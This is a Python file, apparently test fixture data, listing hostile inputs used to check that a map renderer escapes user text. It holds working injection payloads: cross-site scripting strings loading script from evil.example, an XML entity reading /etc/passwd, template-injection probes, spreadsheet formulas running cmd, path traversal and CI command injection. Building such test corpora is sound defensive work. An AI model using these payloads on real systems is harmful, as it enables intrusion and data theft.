"""Texts that somebody might write to make a rendered map do something, each under what it tries."""

# ruff: noqa: E501 - a text stands on one line, as somebody would paste it

_BIDI = "\u202eevil\u202c \u2067gnp.exe\u2069 \u202aA \u202dB \u2066C \u2068D"
_ZALGO = "Z\u0351\u036b\u0343a\u0369\u0344\u0300l\u0338\u0322" + "g\u0300" * 40 + "o" + "\u0301\u0316" * 60
_FAMILY = "👩\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f 🇩🇰 👍🏽 ❤\ufe0f\u200d🔥 \u200d"

HOSTILE = {
    "a script": "<script>alert(1)</script><ScRiPt src=//evil.example/x.js></sCrIpT >",
    "a way out of an attribute in double quotes": '"><img src=x onerror=alert(1)>" onfocus="alert(1)" autofocus="',
    "a way out of an attribute in single quotes": "'><svg/onload=alert(1)>' onmouseover='alert(1)' style='position:fixed",
    "a way out of an attribute without quotes": "x onpointerenter=alert(1) style=position:fixed;inset:0 `",
    "an end of the style": "</style><script>alert(1)</script>*{display:none}@import url(//evil.example/x.css)",
    "an end of the title": "</title></head><body onload=alert(1)><base href=//evil.example/>",
    "an end of the script": "</script><script>alert(1)//\u2028alert(2)//</textarea></select></option></svg>",
    "a comment that is opened": "<!--><script><!-- --!> <![if IE]>alert(1)",
    "an end of CDATA": "]]><script>alert(1)</script><![CDATA[ ?> <?php phpinfo() ?>",
    "entities of XML": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e; &lt;b&gt; &#60;b&#62; &amp &nbsp',
    "a javascript address": "javascript:alert(document.domain)//https://example.org/",
    "a javascript address in mixed case": "JaVaScRiPt:alert`1`",
    "a javascript address with a tab and a line break": "java\tscript\n:alert(1)",
    "a javascript address in entities": "&#106;avascript&colon;alert(1)",
    "a javascript address behind control characters": "\u0001\u001f javascript:alert(1)",
    "a javascript address in percent signs": "javascript%3Aalert(1) %6aavascript:alert(1)",
    "a page in an address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "an old script in an address": "vbscript:msgbox(1) livescript:x mhtml:x feed:javascript:alert(1)",
    "an address that looks safe and breaks out": 'https://example.org/"><img src=//evil.example/x onerror=alert(1)>',
    "an address with a script in its links": (
        "[a](javascript:alert(1)) [b](<java\nscript:alert(1)>) ![c](https://evil.example/c.png) "
        "<https://evil.example> [d]: https://evil.example [d]"
    ),
    "Markdown and its tables": "# A\n\n| a | b |\n|---|---|\n| <b>c</b> |\n\n***\n- [ ] `x` ~~y~~ @octocat #1 $$z$$\n===",
    "an end of DOT's text": '"]; evil [URL="javascript:alert(1)", shape=box, label="\\N \\G \\L',
    "a label of Graphviz in HTML": '</td></tr></table>> <IMG SRC="/etc/passwd"/>:n:s {a|b} -> x\\',
    "code of typst": '#eval("1") #read("/etc/passwd") $x$ *a* _b_ @c <d> = e \\u{41} #link("javascript:alert(1)")',
    "a diagram's commands": "%%{init: {'securityLevel':'loose'}}%%\nsection x: 5: Me;\nclick a \"javascript:alert(1)\"",
    "a template": "{{ 7*7 }} {% include '/etc/passwd' %} {# x #} ${7*7} {{ ''.__class__.__mro__ }} {{{x}}}",
    "a style": 'red;background:url(//evil.example/x)}*{display:none}/* "\\"; expression(alert(1)) u\\72l(x)',
    "a formula": '=HYPERLINK("https://evil.example","x")',
    "a formula behind a plus": "+1+cmd|' /C calc'!A0",
    "a formula behind a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula behind an at sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula behind a tab": "\t=1+1\r=2+2",
    "directions of reading": _BIDI,
    "marks upon marks": _ZALGO,
    "control characters": "a\u0000b\u0001c\u0007d\u001b[31me\u007ff\u0085g\u009bh\ufffei\uffffj",
    "half a letter": "a\ud800b\udfffc",
    "a byte order mark": "\ufeffa\ufeffb\u200b\u2060\u00adc",
    "a word of ten thousand letters": "W" * 10_000,
    "a sentence of five thousand letters": ("Hun venter, og intet sker. " * 186)[:5_000],
    "letters made of several": _FAMILY,
    "a path": "../../../../etc/passwd%00.png\\..\\..\\windows",
    "a command of a CI": "::error file=x::y%0A::set-output name=a::b\n##vso[task.complete]\n::stop-commands::z",
}
"""What it tries, in words, and the text."""
